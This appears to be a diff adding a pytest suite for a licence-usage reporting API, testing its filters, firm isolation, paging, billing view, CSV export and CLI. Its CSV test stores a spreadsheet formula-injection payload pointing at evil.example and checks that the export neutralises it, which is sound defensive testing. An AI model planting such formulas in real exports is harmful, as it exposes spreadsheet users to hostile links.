@@ -1,0 +1,588 @@
+"""The reporting API over the usage store: the source's three example requests as
+written, every filter, `to` inclusive of its second, two-firm isolation, the cursor,
+the billing view on a hand-made day, CSV cells that never become formulas, and
+`licentia vendor usage` against a real Central on 127.0.0.1.
+
+The usage rows are written straight into usage_events (the store that uploads fill);
+firms, customers, items and tickets are made through the vendor API."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import itertools
+import json
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from central_helpers import ADMIN_KEY, ServerThread, central_app, make_settings
+from fastapi.testclient import TestClient
+from sqlalchemy import insert, select
+
+from licentia.central.models import Item, Ticket, UsageEvent
+from licentia.central.services.reporting import DaySweep
+from tests.cli.helpers import vendor as vendor_cli
+
+API = "/api/v1"
+ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}
+FIRM, OTHER = 6000145, 6000177
+LICENSE, PRODUCT, BILLING = (
+    API + "/reporting/license-usage",
+    API + "/reporting/product-usage",
+    API + "/reporting/billing",
+)
+
+
+def ts(text: str) -> int:
+    return int(dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC).timestamp())
+
+
+# ---------------------------------------------------------------- the source's requests, as written
+
+SOURCE_FILTER = '"filter": {\n    "from": "2023-08-01T00:00:00",\n    "to": "2023-08-31T23:59:59"\n  }'
+SOURCE_LICENSE_REQUEST = '{\n  "session": {},\n  ' + SOURCE_FILTER + "\n}"
+SOURCE_CUSTOMER_REQUEST = """{
+  "session": {},
+  "filter": {
+    "customerIdentification": "20230306",
+    "from": "2023-08-01T00:00:00",
+    "to": "2023-08-31T23:59:59"
+  }
+}"""
+SOURCE_ITEM_REQUEST = """{
+  "session": {},
+  "filter": {
+    "itemIdentification": "B-00001-145",
+    "from": "2023-08-01T00:00:00",
+    "to": "2023-08-31T23:59:59"
+  }
+}"""
+
+
+@dataclass
+class Firm:
+    code: int
+    headers: dict[str, str]
+    tickets: dict[str, dict[str, Any]]  # ticket id -> the ticket's view
+
+
+class Store:
+    """Firms made through the vendor API, and usage rows written into the store."""
+
+    def __init__(self, client: TestClient, engine: Any):
+        self.client, self.engine = client, engine
+        self.firms: dict[int, Firm] = {}
+
+    def firm(self, code: int) -> Firm:
+        r = self.client.post(API + "/firms", json={"code": code, "name": f"Firm {code}"}, headers=ADMIN)
+        assert r.status_code == 201, r.text
+        key = self.client.post(API + "/apikeys", json={"firm_code": code}, headers=ADMIN).json()["key"]
+        self.firms[code] = Firm(code, {"Authorization": f"Bearer {key}"}, {})
+        return self.firms[code]
+
+    def item(self, firm: Firm, item_id: str, name: str, product: int, quantity: int = 1) -> None:
+        body = {"item_id": item_id, "name": name, "product_code": product, "options": {"quantity": quantity}}
+        r = self.client.post(API + "/items", json=body, headers=firm.headers)
+        assert r.status_code == 201, r.text
+
+    def customer(self, firm: Firm, number: str) -> None:
+        r = self.client.post(API + "/customers", json={"number": number, "name": f"C {number}"}, headers=firm.headers)
+        assert r.status_code == 201, r.text
+
+    def ticket(self, firm: Firm, customer: str, item: str) -> dict[str, Any]:
+        order = {"customer": customer, "items": [item]}
+        r = self.client.post(API + "/tickets", json=order, headers=firm.headers)
+        assert r.status_code == 201, r.text
+        ticket = r.json()["tickets"][0]["ticket"]
+        view = self.client.get(f"{API}/tickets/{ticket}", headers=firm.headers).json()
+        firm.tickets[ticket] = view
+        return dict(view)
+
+    def use(
+        self,
+        ticket: dict[str, Any] | None,
+        access: str,
+        release: str | None = None,
+        *,
+        firm: int = FIRM,
+        user: str = "user-1",
+        product: int | None = None,
+        feature: int = 0,
+        fail: int = 0,
+        seat: str | None = None,
+        units: int = 0,
+        mode: str = "user",
+        license_id: int | None = None,
+    ) -> None:
+        """One session (or, with ``fail``, one refusal) of ``ticket``'s license."""
+        with self.engine.begin() as conn:
+            firm_id = conn.execute(select(Ticket.firm_id).limit(1)).scalar()  # replaced below when known
+            t_id = c_id = i_id = None
+            if ticket is not None:
+                row = conn.execute(
+                    select(Ticket.id, Ticket.firm_id, Ticket.customer_id, Ticket.item_id, Item.product_code)
+                    .join(Item, Item.id == Ticket.item_id)
+                    .where(Ticket.ticket == ticket["ticket"])
+                ).one()
+                t_id, firm_id, c_id, i_id, item_product = row
+                product = item_product if product is None else product
+            else:
+                from licentia.central.models import Firm as FirmRow
+
+                firm_id = conn.execute(select(FirmRow.id).where(FirmRow.code == firm)).scalar_one()
+            a = ts(access)
+            r = ts(release) if release else None
+            conn.execute(
+                insert(UsageEvent).values(
+                    firm_id=firm_id,
+                    source="server",
+                    access_time=a,
+                    release_time=None if fail else r,
+                    seconds=(r - a) if r and not fail else 0,
+                    success=0 if fail else 1,
+                    fail=fail,
+                    invalid=0,
+                    firm_code=ticket["firm_code"] if ticket else firm,
+                    product_code=product or 0,
+                    feature_code=feature,
+                    feature_map=0,
+                    license_id=ticket["license_id"] if ticket else (license_id or 0),
+                    ticket_id=t_id,
+                    customer_id=c_id,
+                    item_id=i_id,
+                    user_ident=user,
+                    seat=seat,
+                    lease_id=f"lease-{next(LEASES)}",
+                    units=units,
+                    mode=mode,
+                )
+            )
+
+
+LEASES = itertools.count(1)
+
+
+def post(client: Any, path: str, body: Any, headers: dict[str, str], **kw: Any) -> Any:
+    data = body if isinstance(body, str) else json.dumps(body)
+    return client.post(path, content=data, headers={**headers, "Content-Type": "application/json"}, **kw)
+
+
+def ok(r: Any) -> dict[str, Any]:
+    assert r.status_code == 200, r.text
+    body = r.json()
+    assert body["errorCode"] == 0
+    return dict(body)
+
+
+def refused(r: Any, status: int, error_code: int) -> dict[str, Any]:
+    assert r.status_code == status, r.text
+    body = r.json()
+    assert body["errorCode"] == error_code and isinstance(body["message"], str) and body["message"], body
+    assert body["error"]["message"] == body["message"]
+    return dict(body)
+
+
+@pytest.fixture
+def store(client: TestClient, engine: Any) -> Store:
+    return Store(client, engine)
+
+
+@pytest.fixture
+def source(store: Store) -> Firm:
+    """Firm 6000145 with the source's customers and items, and the uses behind its three
+    answers (August 2023)."""
+    f = store.firm(FIRM)
+    for number in ("20230301", "20230306", "20230315"):
+        store.customer(f, number)
+    store.item(f, "F-00001-145", "Feature #1", 201001)
+    store.item(f, "F-00002-145", "Feature #2", 201002)
+    store.item(f, "F-00003-145", "Feature #3", 201003)
+    store.item(f, "B-00001-145", "Bundle #1", 201100)
+    one = store.ticket(f, "20230301", "F-00001-145")
+    store.use(one, "2023-08-08T09:18:28", "2023-08-08T09:24:27", user="474ce7a1-903f421d")
+    # a refusal: no license could be found for product 10000, feature 1
+    store.use(None, "2023-08-14T16:46:14", product=10000, feature=1, fail=1, user="7ae99d49-4a41-4934")
+    two, three = store.ticket(f, "20230306", "F-00002-145"), store.ticket(f, "20230306", "F-00003-145")
+    store.use(two, "2023-08-20T08:00:00", "2023-08-20T14:46:17", user="xyzKLF4711eDxSdfs6y")  # 24377 s
+    store.use(three, "2023-08-21T08:00:00", "2023-08-21T10:45:39", user="xyzKLF4711eDxSdfs6y")  # 9939 s
+    b1, b2 = store.ticket(f, "20230315", "B-00001-145"), store.ticket(f, "20230315", "B-00001-145")
+    store.use(b1, "2023-08-22T08:00:00", "2023-08-22T08:53:57", user="217521f2-385f-4c52")  # 3237 s
+    store.use(b2, "2023-08-23T08:00:00", "2023-08-23T08:22:04", user="217521f2-385f-4c52")  # 1324 s
+    # outside August, on both sides
+    store.use(one, "2023-07-31T23:59:59", "2023-08-01T00:10:00", user="before")
+    store.use(one, "2023-09-01T00:00:00", "2023-09-01T00:10:00", user="after")
+    return f
+
+
+def test_the_license_view_answers_the_sources_first_request(client, source):
+    body = ok(post(client, LICENSE, SOURCE_LICENSE_REQUEST, source.headers))
+    assert set(body) == {"errorCode", "licenseUsageList", "cursor"} and body["cursor"] is None
+    entries = body["licenseUsageList"]
+    (one,) = [t for t in source.tickets.values() if t["customer"] == "20230301"]
+    assert entries[:2] == [
+        {
+            "accessTime": "2023-08-08T09:18:28",
+            "fail": 0,
+            "featureCode": 0,
+            "featureMap": 0,
+            "firmCode": 6000145,
+            "invalid": 0,
+            "productCode": 201001,
+            "releaseTime": "2023-08-08T09:24:27",  # August (the source's March is a misprint)
+            "seconds": 359,
+            "success": 1,
+            "ticketLicenseId": one["license_id"],
+            "userIdentification": "474ce7a1-903f421d",
+        },
+        {  # refused: no releaseTime
+            "accessTime": "2023-08-14T16:46:14",
+            "fail": 1,
+            "featureCode": 1,
+            "featureMap": 0,
+            "firmCode": 6000145,
+            "invalid": 0,
+            "productCode": 10000,
+            "seconds": 0,
+            "success": 0,
+            "ticketLicenseId": 0,
+            "userIdentification": "7ae99d49-4a41-4934",
+        },
+    ]
+    # JSON types exactly: whole numbers are ints (not bools, not floats), times and users text
+    for entry in entries:
+        for name, value in entry.items():
+            want = str if name in ("accessTime", "releaseTime", "userIdentification") else int
+            assert type(value) is want, (name, value)
+    # the four other August sessions, in access order; July's and September's left out
+    assert [e["accessTime"][:10] for e in entries[2:]] == ["2023-08-20", "2023-08-21", "2023-08-22", "2023-08-23"]
+    assert len(entries) == 6
+
+
+def test_the_product_view_answers_the_sources_customer_request(client, source):
+    body = ok(post(client, PRODUCT, SOURCE_CUSTOMER_REQUEST, source.headers))
+    assert set(body) == {"errorCode", "productUsageList", "cursor"}
+    assert body["productUsageList"] == [
+        {"customer": "20230306", "item": "F-00002-145", "name": "Feature #2", "seconds": 24377, "success": 1,
+         "user": "xyzKLF4711eDxSdfs6y"},
+        {"customer": "20230306", "item": "F-00003-145", "name": "Feature #3", "seconds": 9939, "success": 1,
+         "user": "xyzKLF4711eDxSdfs6y"},
+    ]  # fmt: skip
+
+
+def test_the_product_view_answers_the_sources_item_request_one_row_per_license(client, source):
+    body = ok(post(client, PRODUCT, SOURCE_ITEM_REQUEST, source.headers))
+    rows = body["productUsageList"]
+    # two licenses of one customer, item and user: two rows
+    assert sorted(rows, key=lambda r: -r["seconds"]) == [
+        {"customer": "20230315", "item": "B-00001-145", "name": "Bundle #1", "seconds": 3237, "success": 1,
+         "user": "217521f2-385f-4c52"},
+        {"customer": "20230315", "item": "B-00001-145", "name": "Bundle #1", "seconds": 1324, "success": 1,
+         "user": "217521f2-385f-4c52"},
+    ]  # fmt: skip
+
+
+def test_the_product_view_sums_seconds_and_counts_successes(client, store, source):
+    (two,) = [t for t in source.tickets.values() if t["item"] == "F-00002-145"]
+    store.use(two, "2023-08-25T08:00:00", "2023-08-25T08:00:23", user="xyzKLF4711eDxSdfs6y")
+    store.use(two, "2023-08-25T09:00:00", fail=1, user="xyzKLF4711eDxSdfs6y")  # refused: no success, no seconds
+    rows = ok(post(client, PRODUCT, SOURCE_CUSTOMER_REQUEST, source.headers))["productUsageList"]
+    assert rows[0]["item"] == "F-00002-145" and (rows[0]["seconds"], rows[0]["success"]) == (24400, 2)
+
+
+# ---------------------------------------------------------------- the filter
+
+
+def license_users(client: Any, firm: Firm, flt: dict[str, Any]) -> list[str]:
+    body = ok(post(client, LICENSE, {"session": {}, "filter": flt}, firm.headers))
+    return [e["userIdentification"] for e in body["licenseUsageList"]]
+
+
+def test_each_filter_alone_and_combined(client, source):
+    tickets = source.tickets
+    (b_first,) = [t["ticket"] for t in tickets.values() if t["item"] == "B-00001-145" and t["license_id"] == min(
+        x["license_id"] for x in tickets.values() if x["item"] == "B-00001-145")]  # fmt: skip
+    every = ["before", "474ce7a1-903f421d", "7ae99d49-4a41-4934", "xyzKLF4711eDxSdfs6y", "xyzKLF4711eDxSdfs6y",
+             "217521f2-385f-4c52", "217521f2-385f-4c52", "after"]  # fmt: skip
+    assert license_users(client, source, {}) == every
+    assert license_users(client, source, {"from": "2023-08-22T00:00:00"}) == [*every[5:]]
+    assert license_users(client, source, {"to": "2023-08-08T09:18:28"}) == every[:2]
+    assert license_users(client, source, {"customerIdentification": "20230301"}) == ["before", every[1], "after"]
+    assert license_users(client, source, {"itemIdentification": "f-00003-145 "}) == [
+        every[4]
+    ]  # as the catalog reads it
+    assert license_users(client, source, {"firmCode": FIRM}) == every
+    assert license_users(client, source, {"productCode": 10000}) == [every[2]]
+    assert license_users(client, source, {"featureCode": 1}) == [every[2]]
+    assert license_users(client, source, {"ticketId": b_first}) == [every[5]]
+    assert license_users(client, source, {"productCode": 424242}) == []
+    combined = {
+        "customerIdentification": "20230301",
+        "from": "2023-08-01T00:00:00",
+        "to": "2023-08-31T23:59:59",
+        "productCode": 201001,
+        "featureCode": 0,
+        "firmCode": FIRM,
+        "itemIdentification": "F-00001-145",
+    }
+    assert license_users(client, source, combined) == [every[1]]
+    assert license_users(client, source, {**combined, "featureCode": 1}) == []
+    # a time with an offset is converted; without one it is UTC
+    assert license_users(client, source, {"to": "2023-08-08T11:18:28+02:00"}) == every[:2]
+    assert license_users(client, source, {"to": "2023-08-08T11:18:27+02:00"}) == every[:1]
+
+
+def test_to_includes_its_whole_second_and_from_its_own(client, store, source):
+    (one,) = [t for t in source.tickets.values() if t["customer"] == "20230301"]
+    store.use(one, "2023-08-31T23:59:59", "2023-09-01T00:00:30", user="last-second")
+    store.use(one, "2023-08-01T00:00:00", "2023-08-01T00:00:01", user="first-second")
+    users = license_users(client, source, {"from": "2023-08-01T00:00:00", "to": "2023-08-31T23:59:59"})
+    assert users[0] == "first-second" and users[-1] == "last-second" and "after" not in users
+    users = license_users(client, source, {"to": "2023-08-31T23:59:58.999"})
+    assert "last-second" not in users
+    users = license_users(client, source, {"to": "2023-08-31T23:59:59.999"})
+    assert users[-1] == "last-second"
+
+
+@pytest.mark.parametrize(
+    ("body", "status", "error_code", "words"),
+    [
+        ({"session": {}, "filter": {"customer": "20230306"}}, 422, 1, "customer"),
+        ({"session": {}, "filter": {"From": "2023-08-01T00:00:00"}}, 422, 1, "From"),
+        ({"session": {}, "filter": {}, "extra": 1}, 422, 1, "extra"),
+        ({"session": {}, "filter": {"from": "2023-08-01"}}, 400, 1, "date and time"),
+        ({"session": {}, "filter": {"from": "yesterday"}}, 400, 1, "date and time"),
+        ({"session": {}, "filter": {"from": "2023-09-01T00:00:00", "to": "2023-08-01T00:00:00"}}, 400, 1, "after"),
+        ({"session": {}, "filter": {"productCode": "201001"}}, 422, 1, "productCode"),
+        ({"session": {}, "filter": {"ticketId": "not-a-ticket"}}, 400, 1, "ticket"),
+        ({"session": {}, "filter": {}, "cursor": "garbage"}, 400, 1, "cursor"),
+        ({"session": {}, "filter": {}, "limit": 0}, 422, 1, "limit"),
+        ({"session": {}, "filter": {}, "limit": 10001}, 422, 1, "limit"),
+        ({"session": {"user": "x", "token": "y"}, "filter": {}}, 400, 5, "session"),
+        ({"session": {}, "filter": {"customerIdentification": "NOBODY"}}, 404, 4, "NOBODY"),
+        ({"session": {}, "filter": {"itemIdentification": "F-09999-145"}}, 404, 4, "F-09999-145"),
+    ],
+)
+def test_a_bad_request_is_refused_with_an_error_code_and_changes_nothing(client, engine, source, body, status,
+                                                                         error_code, words):  # fmt: skip
+    from central_helpers import dump_state
+
+    before = dump_state(engine)
+    answer = refused(post(client, LICENSE, body, source.headers), status, error_code)
+    assert words in answer["message"], answer
+    assert dump_state(engine) == before
+
+
+@pytest.mark.parametrize("path", [LICENSE, PRODUCT, BILLING])
+def test_a_body_refused_before_it_is_read_keeps_the_reporting_shape(client, source, path):
+    """Not JSON, or JSON Central does not accept (a duplicate key): refused before any
+    route reads it, still with an errorCode."""
+    for body in (b"{not json", b'{"session": {}, "session": {}}'):
+        r = client.post(path, content=body, headers={**source.headers, "Content-Type": "application/json"})
+        answer = refused(r, 400, 1)
+        assert answer["error"]["code"] == "malformed_input", answer
+
+
+def test_the_api_key_is_needed_and_checked(client, source):
+    refused(post(client, LICENSE, SOURCE_LICENSE_REQUEST, {}), 401, 2)
+    refused(post(client, LICENSE, SOURCE_LICENSE_REQUEST, {"Authorization": "Bearer not-a-key"}), 401, 2)
+    # the session object absent or null is the same as empty
+    assert ok(post(client, LICENSE, {"filter": {}}, source.headers))["licenseUsageList"]
+    assert ok(post(client, LICENSE, {"session": None}, source.headers))["licenseUsageList"]
+
+
+# ---------------------------------------------------------------- two firms
+
+
+def _two_firms(store: Store, source: Firm) -> Firm:
+    other = store.firm(OTHER)
+    store.customer(other, "77-OTHER-CUSTOMER")
+    store.item(other, "Z-00001-177", "Other Firm Item", 7001)
+    t = store.ticket(other, "77-OTHER-CUSTOMER", "Z-00001-177")
+    store.use(t, "2023-08-10T10:00:00", "2023-08-10T11:00:00", user="other-firm-user")
+    return other
+
+
+def check_isolation(client: Any, store: Store, source: Firm) -> None:
+    other = _two_firms(store, source)
+    for path in (LICENSE, PRODUCT, BILLING):
+        for flt in ({}, {"from": "2023-08-01T00:00:00", "to": "2023-08-31T23:59:59"}, {"productCode": 7001}):
+            text = post(client, path, {"filter": flt}, source.headers).text
+            assert "other-firm-user" not in text and "Z-00001-177" not in text and "77-OTHER" not in text
+        assert "other-firm-user" in post(client, LICENSE, {"filter": {}}, other.headers).text or path != LICENSE
+        # another firm's customer, item, ticket or code: answered as one nobody has
+        (other_ticket,) = other.tickets
+        (own_ticket,) = [t for t in source.tickets if source.tickets[t]["customer"] == "20230301"]
+        for key, theirs, nobody in (
+            ("customerIdentification", "77-OTHER-CUSTOMER", "77-NOBODY-AT-ALL"),
+            ("itemIdentification", "Z-00001-177", "Z-09999-177"),
+            ("ticketId", other_ticket, own_ticket.replace(own_ticket[:5], "ZZZZZ")),
+            ("firmCode", OTHER, 6000999),
+        ):
+            a = post(client, path, {"filter": {key: theirs}}, source.headers)
+            b = post(client, path, {"filter": {key: nobody}}, source.headers)
+            assert a.status_code in (403, 404) and a.json()["errorCode"] in (3, 4), a.text
+            if key != "ticketId":  # a made-up ticket id may be mistyped: its check digit
+                assert (a.status_code, a.text) == (b.status_code, b.text.replace(str(nobody), str(theirs)))
+    # the admin key sees both firms, and narrows to one with firmCode
+    users = [e["userIdentification"] for e in ok(post(client, LICENSE, {}, ADMIN))["licenseUsageList"]]
+    assert "other-firm-user" in users and "474ce7a1-903f421d" in users
+    only = ok(post(client, LICENSE, {"filter": {"firmCode": OTHER}}, ADMIN))["licenseUsageList"]
+    assert [e["userIdentification"] for e in only] == ["other-firm-user"]
+
+
+def test_a_firms_key_never_sees_another_firms_usage(client, store, source):
+    check_isolation(client, store, source)
+
+
+# ---------------------------------------------------------------- the cursor
+
+
+def walk(client: Any, path: str, list_name: str, body: dict[str, Any], headers: dict[str, str]) -> list[Any]:
+    rows, cursor, pages = [], None, 0
+    while True:
+        answer = ok(post(client, path, {**body, **({"cursor": cursor} if cursor else {})}, headers))
+        rows += answer[list_name]
+        pages += 1
+        cursor = answer["cursor"]
+        if cursor is None:
+            return [rows, pages]
+
+
+def test_the_cursor_walks_a_report_larger_than_a_page_exactly_once(client, store, source):
+    (one,) = [t for t in source.tickets.values() if t["customer"] == "20230301"]
+    for i in range(40):  # many at the same second: the row id breaks the tie
+        store.use(one, f"2023-08-{10 + i // 8:02d}T12:00:00", f"2023-08-{10 + i // 8:02d}T12:30:00", user=f"u{i:02d}",
+                  seat=f"s{i % 3}")  # fmt: skip
+    for path, name in ((LICENSE, "licenseUsageList"), (PRODUCT, "productUsageList"), (BILLING, "billingList")):
+        whole = ok(post(client, path, {"filter": {}, "limit": 10000}, source.headers))
+        assert whole["cursor"] is None
+        rows, pages = walk(client, path, name, {"filter": {}, "limit": 7}, source.headers)
+        assert rows == whole[name] and pages == -(-len(rows) // 7) + (len(rows) % 7 == 0)
+        assert len(rows) > 7
+        if path == LICENSE:
+            assert len(rows) == 48 and len({json.dumps(r, sort_keys=True) for r in rows}) == 48
+    # a cursor is bound to its view and its filter
+    first = ok(post(client, LICENSE, {"filter": {}, "limit": 5}, source.headers))
+    refused(
+        post(client, LICENSE, {"filter": {"productCode": 201001}, "cursor": first["cursor"]}, source.headers), 400, 1
+    )
+    refused(post(client, PRODUCT, {"filter": {}, "cursor": first["cursor"]}, source.headers), 400, 1)
+
+
+# ---------------------------------------------------------------- billing
+
+
+def test_the_billing_view_peak_seats_and_seat_hours_of_a_hand_made_day(client, store, source):
+    f = store.firm(6000300)
+    store.customer(f, "BILL-1")
+    store.item(f, "S-00001-300", "Seats", 300, quantity=5)
+    t = store.ticket(f, "BILL-1", "S-00001-300")
+    day = "2023-08-10T"
+    store.use(t, day + "09:00:00", day + "10:00:00", seat="s1")
+    store.use(t, day + "09:30:00", day + "11:00:00", seat="s1")  # the same seat: counted once, 2 h in all
+    store.use(t, day + "10:00:00", day + "12:00:00", seat="s2", units=5)
+    store.use(t, day + "10:30:00", day + "10:45:00", seat="s3")  # 10:30-10:45: s1, s2, s3 held: peak 3
+    store.use(t, day + "12:00:00", day + "12:00:00", fail=1)  # a refusal
+    store.use(t, day + "11:00:00", day + "12:00:00", seat="nolimit", mode="nolimit")  # holds no seat
+    store.use(t, day + "23:00:00", "2023-08-11T01:00:00", seat="s4")  # over midnight: 1 h each day
+    store.use(t, "2023-08-12T20:00:00", seat="s5")  # still open: held until the period's end
+    body = {"filter": {"from": "2023-08-01T00:00:00", "to": "2023-08-12T23:59:59"}}
+    rows = ok(post(client, BILLING, body, f.headers))["billingList"]
+    head = {"firmCode": 6000300, "customer": "BILL-1", "item": "S-00001-300", "name": "Seats"}
+    assert rows == [
+        {**head, "day": "2023-08-10", "peakSeats": 3, "seatSeconds": 18900, "seatHours": 5.25, "sessions": 6,
+         "units": 5, "refusals": 1},
+        {**head, "day": "2023-08-11", "peakSeats": 1, "seatSeconds": 3600, "seatHours": 1.0, "sessions": 0,
+         "units": 0, "refusals": 0},
+        {**head, "day": "2023-08-12", "peakSeats": 1, "seatSeconds": 14400, "seatHours": 4.0, "sessions": 1,
+         "units": 0, "refusals": 0},
+    ]  # fmt: skip
+    # a period that begins inside a session counts only its part
+    body = {"filter": {"from": "2023-08-11T00:30:00", "to": "2023-08-11T23:59:59"}}
+    (row,) = ok(post(client, BILLING, body, f.headers))["billingList"]
+    assert (row["day"], row["peakSeats"], row["seatSeconds"], row["sessions"]) == ("2023-08-11", 1, 1800, 0)
+
+
+def test_the_day_sweep_counts_distinct_seats_at_an_instant():
+    sweep = DaySweep((1, "c", "i"), "n", lo=None, hi=None, now=10 * 86400)
+    out = []
+    # back to back on two seats: never two at once; a session ending as another begins
+    for access, release, seat in ((100, 200, "a"), (200, 300, "b"), (300, 400, "a")):
+        out += list(sweep.add(access, release, True, 0, seat, True))
+    out += list(sweep.finish())
+    (row,) = out
+    assert (row["peakSeats"], row["seatSeconds"], row["sessions"]) == (1, 300, 3)
+
+
+# ---------------------------------------------------------------- CSV
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x","click")'
+
+
+def test_csv_cells_never_become_formulas(client, store, source):
+    (two,) = [t for t in source.tickets.values() if t["item"] == "F-00002-145"]
+    store.use(two, "2023-08-26T08:00:00", "2023-08-26T08:01:00", user=HYPERLINK)
+    store.use(two, "2023-08-26T09:00:00", "2023-08-26T09:01:00", user="+1-555\nline two")
+    for headers, params in (({**source.headers, "Accept": "text/csv"}, None), (source.headers, {"format": "csv"})):
+        r = post(client, PRODUCT, SOURCE_CUSTOMER_REQUEST, headers, params=params)
+        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+        table = list(csv.reader(io.StringIO(r.text)))
+        assert table[0] == ["customer", "item", "name", "seconds", "success", "user"]
+        users = [row[5] for row in table[1:]]
+        assert "'" + HYPERLINK in users and "'+1-555 line two" in users and HYPERLINK not in users
+        assert all(not u.startswith(("=", "+", "-", "@")) for u in users)
+    r = post(client, LICENSE, {"filter": {}}, source.headers, params={"format": "csv"})
+    table = list(csv.reader(io.StringIO(r.text)))
+    assert table[0][0] == "accessTime" and len(table) == 1 + 10
+    # a refusal before the body streams keeps the JSON refusal
+    refused(post(client, LICENSE, {"filter": {"customerIdentification": "NOBODY"}}, source.headers,
+                 params={"format": "csv"}), 404, 4)  # fmt: skip
+
+
+# ---------------------------------------------------------------- the CLI
+
+
+def test_vendor_usage_prints_the_product_view_as_csv(tmp_path, clock):
+    with central_app(make_settings(tmp_path / "data"), clock) as app, ServerThread(app) as server:
+        import httpx
+
+        with httpx.Client(base_url=server.url) as http:
+            store = Store(http, app.state.central.db.engine)  # type: ignore[arg-type]
+            f = store.firm(FIRM)
+            store.customer(f, "20230306")
+            store.item(f, "F-00002-145", "Feature #2", 201002)
+            t = store.ticket(f, "20230306", "F-00002-145")
+            store.use(t, "2023-08-20T08:00:00", "2023-08-20T14:46:17", user="xyzKLF4711eDxSdfs6y")
+            store.use(t, "2023-08-21T08:00:00", "2023-08-21T08:00:10", user=HYPERLINK)
+        key = f.headers["Authorization"].split()[1]
+        args = ["usage", "--view", "product", "--customer", "20230306", "--from", "2023-08-01T00:00:00",
+                "--to", "2023-08-31T23:59:59", "--csv"]  # fmt: skip
+        code, out, err = vendor_cli(args, url=server.url, key=key)
+        assert code == 0, err
+        assert list(csv.reader(io.StringIO(out))) == [
+            ["customer", "item", "name", "seconds", "success", "user"],
+            ["20230306", "F-00002-145", "Feature #2", "10", "1", "'" + HYPERLINK],
+            ["20230306", "F-00002-145", "Feature #2", "24377", "1", "xyzKLF4711eDxSdfs6y"],
+        ]
+        code, out, err = vendor_cli(["usage", "--view", "license", "--limit", "1"], url=server.url, key=key)
+        assert code == 0 and "xyzKLF4711eDxSdfs6y" in out and "--cursor" in err, (out, err)
+        code, out, err = vendor_cli(["usage", "--customer", "NOBODY"], url=server.url, key=key)
+        assert code == 1 and "There is no customer NOBODY" in err, err
+
+
+# ---------------------------------------------------------------- PostgreSQL
+
+
+@pytest.mark.postgres
+def test_the_license_view_and_isolation_on_postgresql(tmp_path, pg_url, clock):
+    with central_app(make_settings(tmp_path / "data", pg_url), clock) as app, TestClient(app) as client:
+        store = Store(client, app.state.central.db.engine)
+        firm = source.__wrapped__(store)  # type: ignore[attr-defined]
+        test_the_license_view_answers_the_sources_first_request(client, firm)
+        test_the_product_view_answers_the_sources_item_request_one_row_per_license(client, firm)
+        rows, _ = walk(client, LICENSE, "licenseUsageList", {"filter": {}, "limit": 3}, firm.headers)
+        assert len(rows) == 8
+        check_isolation(client, store, firm)
